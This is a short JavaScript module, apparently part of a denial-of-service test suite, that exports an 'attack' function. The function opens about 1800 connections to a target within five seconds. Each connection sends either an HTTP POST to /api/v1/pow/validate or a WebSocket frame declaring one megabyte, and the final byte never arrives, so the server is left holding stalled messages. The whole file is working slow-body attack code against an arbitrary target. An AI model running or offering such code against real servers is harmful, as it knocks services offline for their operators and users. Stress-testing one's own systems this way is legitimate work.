// Two thousand bodies and messages of a megabyte whose last byte never comes.
import { again, writeOnly } from "../sockets.mjs";

const SIZE = 2 ** 20;
const BODY = Buffer.concat([
  Buffer.from(
    "POST /api/v1/pow/validate HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n" +
      `Content-Length: ${SIZE}\r\n\r\n`,
  ),
  Buffer.alloc(SIZE - 1, " "),
]);
const MESSAGE = Buffer.concat([
  Buffer.from(
    "GET /trpc HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n" +
      "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n",
  ),
  Buffer.from([0x81, 0xff, 0, 0, 0, 0, 0, 0x10, 0, 0, 0, 0, 0, 0]), // 2^20 bytes, masked with zeros
  Buffer.alloc(SIZE - 1, " "),
]);

export const attack = (target) =>
  again({ count: 1800, milliseconds: 5000 }, (number) =>
    writeOnly(target, number % 2 === 0 ? BODY : MESSAGE),
  );
